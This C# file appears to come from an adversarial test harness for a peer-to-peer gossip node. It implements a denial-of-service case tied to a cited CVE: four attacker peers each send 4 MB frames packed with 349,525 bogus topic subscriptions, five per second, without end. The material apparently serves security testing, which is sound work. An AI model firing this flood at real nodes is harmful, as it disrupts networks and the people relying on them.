using OpStack.Primitives.Encoding;

namespace OpStack.P2P.Adversarial.NodeCases.Attacks.Gossip;

/// <summary>RPCs of 4 MB, each 349,525 subscriptions to topics nobody has (CVE-2026-46679).</summary>
internal sealed class SubscriptionFlood : Attack
{
    private const int Entries = 349_525;
    private const int PerSecond = 5;

    public override string Name => "subscriptions-4mb";

    public override string Row => "10";

    public override string Unit => "RPCs";

    protected override int Attackers => 4;

    protected override async Task LiveAsync(AttackTarget target, int attacker, CancellationToken stop)
    {
        await using GossipAttacker peer = await GossipAttacker.JoinAsync(target, stop);
        byte[] frame = Frame();
        Pace pace = new(PerSecond);
        while (true)
        {
            await pace.NextAsync(stop);
            await peer.SendAsync(frame, stop);
            CountSent();
        }
    }

    /// <summary>Entries of 12 bytes: subscribe, and a topic of six digits.</summary>
    private static byte[] Frame()
    {
        byte[] prefix = new byte[Varint.MaxLength];
        int start = Varint.Write(prefix, Entries * 12);
        byte[] frame = new byte[start + (Entries * 12)];
        prefix.AsSpan(0, start).CopyTo(frame);
        for (int i = 0; i < Entries; i++)
        {
            Span<byte> entry = frame.AsSpan(start + (i * 12), 12);
            entry[0] = 0x0a;
            entry[1] = 10;
            entry[2] = 0x08;
            entry[3] = 1;
            entry[4] = 0x12;
            entry[5] = 6;
            for (int digit = 0, rest = i; digit < 6; digit++, rest /= 10)
            {
                entry[6 + digit] = (byte)('0' + (rest % 10));
            }
        }

        return frame;
    }
}
